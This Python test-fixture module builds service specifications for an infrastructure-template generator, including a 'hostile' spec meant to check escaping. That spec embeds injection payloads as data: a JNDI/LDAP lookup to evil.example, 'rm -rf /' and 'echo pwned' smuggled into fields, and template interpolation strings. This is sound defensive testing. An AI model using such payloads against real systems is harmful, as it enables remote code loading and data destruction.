"""ServiceSpecs that exercise the infrastructure templates (built in Python, parser-independent)."""

from __future__ import annotations

from bbws_scaffold.model import (
    GSI,
    Attribute,
    Dependency,
    Endpoint,
    Entity,
    EnvVar,
    Function,
    Nfr,
    Runtime,
    ServiceSpec,
    Table,
    TableAccess,
    Tag,
)

RW = ["dynamodb:GetItem", "dynamodb:PutItem", "dynamodb:UpdateItem", "dynamodb:DeleteItem"]


def crud_spec() -> ServiceSpec:
    """Two tables (one with a GSI), seven HTTP endpoints, NFR targets and tags."""
    routes = [
        ("create_product", "POST", "/v1.0/products", "products", ["dynamodb:PutItem"], []),
        ("get_product", "GET", "/v1.0/products/{productId}", "products", ["dynamodb:GetItem"], []),
        ("list_products", "GET", "/v1.0/products", "products", ["dynamodb:Scan"], []),
        (
            "list_products_by_category",
            "GET",
            "/v1.0/categories/{category}/products",
            "products",
            ["dynamodb:Query"],
            ["CategoryIndex"],
        ),
        (
            "update_product",
            "PUT",
            "/v1.0/products/{productId}",
            "products",
            ["dynamodb:GetItem", "dynamodb:UpdateItem"],
            [],
        ),
        ("delete_product", "DELETE", "/v1.0/products/{productId}", "products", ["dynamodb:DeleteItem"], []),
        ("create_review", "POST", "/v1.0/products/{productId}/reviews", "reviews", ["dynamodb:PutItem"], []),
    ]
    functions = [
        Function(
            name=name,
            trigger="http",
            method=method,
            path=path,
            description=f"{method} {path}",
            access=[TableAccess(table=table, actions=actions, indexes=indexes)],
        )
        for name, method, path, table, actions, indexes in routes
    ]
    functions[1].memory_mb = 512
    functions[2].timeout_s = 10
    endpoints = [
        Endpoint(method=method, path=path, function=name, auth="public" if method == "GET" else "Cognito")
        for name, method, path, *_ in routes
    ]
    tables = [
        Table(
            name="products",
            table_name="bbws-catalogue-products-{env}",
            pk_attr="PK",
            sk_attr="SK",
            entities=[
                Entity(
                    name="Product",
                    pk="PRODUCT#{productId}",
                    sk="METADATA",
                    attributes=[
                        Attribute(name="category", type="string"),
                        Attribute(name="createdAt", type="string"),
                        Attribute(name="price", type="number"),
                    ],
                )
            ],
            gsis=[GSI(name="CategoryIndex", pk="category", sk="createdAt")],
        ),
        Table(
            name="reviews",
            table_name="bbws-catalogue-reviews-${env}",
            entities=[Entity(name="Review", pk="PRODUCT#{productId}", sk="REVIEW#{reviewId}")],
            gsis=[
                GSI(name="ReviewsByAuthor", index="GSI1", pk="AUTHOR#{authorName}", sk="{createdAt}"),
                GSI(name="ReviewsByAuthorAgain", index="GSI1", pk="AUTHOR#{authorName}"),
                GSI(name="Status", pk_attr="GSI2_PK", sk_attr="GSI2_SK", pk="STATUS#{status}"),
            ],
            ttl_attribute="expiresAt",
        ),
    ]
    return ServiceSpec(
        title="Catalogue Lambda - Low-Level Design",
        service_name="Catalogue",
        lld_number="2.9.1",
        version="1.1",
        runtime=Runtime(python_version="3.12", memory_mb=256, timeout_s=30, architecture="arm64"),
        functions=functions,
        endpoints=endpoints,
        tables=tables,
        env_vars=[EnvVar(name="DYNAMODB_TABLE_NAME", example="bbws-catalogue-products-dev")],
        dependencies=[
            Dependency(name="AWS DynamoDB", service="dynamodb"),
            Dependency(name="Amazon SES", service="ses"),
            Dependency(name="AWS Cognito", service="cognito-idp"),
            Dependency(name="Route 53 Domains", service="route53domains"),
        ],
        nfrs=[
            Nfr(metric="API latency", target="p95 < 300ms", kind="latency", percentile="p95", threshold=300, unit="ms"),
            Nfr(metric="Error rate", target="< 1%", kind="error_rate", threshold=1, unit="%"),
            Nfr(metric="Availability", target="99.9%", kind="availability", threshold=99.9, unit="%"),
        ],
        tags=[
            Tag(key="Project", value="BBWS"),
            Tag(key="CostCenter", value="Customer Portal"),
            Tag(key="Environment", value="dev, sit, prod"),
        ],
    )


def events_spec() -> ServiceSpec:
    """SQS consumers, an EventBridge rule, a schedule and an S3 trigger; no HTTP API, no tables."""
    return ServiceSpec(
        title="Order Processing - Low-Level Design",
        service_name="Order Processing",
        runtime=Runtime(python_version="3.12", memory_mb=None, timeout_s=None, architecture="x86_64"),
        functions=[
            Function(name="OrderCreatorRecord", trigger="sqs", source_name="bbws-order-record-{env}", timeout_s=60),
            Function(
                name="OrderPDFCreator", trigger="sqs", source_name="SQS: bbws-order-pdf-{environment}", memory_mb=1024
            ),
            Function(name="send_notification", trigger="eventbridge", source_name="bbws-events"),
            Function(name="nightly_cleanup", trigger="schedule", source_name="cron(0 2 * * ? *)"),
            Function(name="process_attachment", trigger="s3", source_name="S3 Event"),
            Function(
                name="bbws-wp-site-creator-{env}",
                deployed_name="bbws-wp-site-creator-{env}",
                trigger="sqs",
                timeout_s=900,
            ),
        ],
        dependencies=[
            Dependency(name="Amazon SQS", service="sqs"),
            Dependency(name="Amazon S3", service="s3"),
            Dependency(name="EventBridge", service="events"),
            Dependency(name="Secrets Manager", service="secretsmanager"),
        ],
        nfrs=[
            Nfr(
                metric="Processing time",
                target="p99 < 5 s",
                kind="latency",
                percentile="p99",
                threshold=5000,
                unit="ms",
            )
        ],
    )


HOSTILE_TAG = '${jndi:ldap://evil.example/a} "quoted" %{ if true }x%{ endif }\nsecond line'
HOSTILE_DESCRIPTION = 'Creates an order"; rm -rf / #\n${path.module} %{ for x in y }'


def hostile_spec() -> ServiceSpec:
    """LLD strings that would break or be interpreted by HCL, YAML or shell if not escaped."""
    return ServiceSpec(
        title='Evil "Service" ${var.x} `id`',
        service_name="Evil Service",
        functions=[
            Function(
                name="create_order",
                description=HOSTILE_DESCRIPTION,
                access=[
                    TableAccess(table='orders"table', actions=["dynamodb:PutItem", "dynamodb:*", "*", "s3:GetObject"]),
                ],
            ),
            Function(name="tick", trigger="schedule", source_name='rate(5 minutes)"; echo pwned'),
        ],
        endpoints=[
            Endpoint(method="POST", path="/v1/orders", function="create_order", auth="Cognito"),
            Endpoint(method="GET", path='/v1/orders/"; rm -rf /', function="create_order"),
        ],
        tables=[
            Table(
                name='orders"table',
                table_name="orders-${jndi:x}-{env}",
                pk_attr='P"K',
                sk_attr="${var.sk}",
                entities=[Entity(name="Order", pk="ORDER#{id}")],
                gsis=[GSI(name='By"Status ${x}', pk='status"attr')],
            )
        ],
        nfrs=[Nfr(metric='Latency "p95" ${x}\nnewline', target="< 1s", kind="latency", threshold=1000, unit="ms")],
        dependencies=[Dependency(name='Strange "service" ${x}', service=None)],
        tags=[
            Tag(key="Owner", value=HOSTILE_TAG),
            Tag(key='Key"${x}', value="v"),
            Tag(key="aws:reserved", value="x"),
        ],
    )


SPECS = {"crud": crud_spec, "events": events_spec, "hostile": hostile_spec}
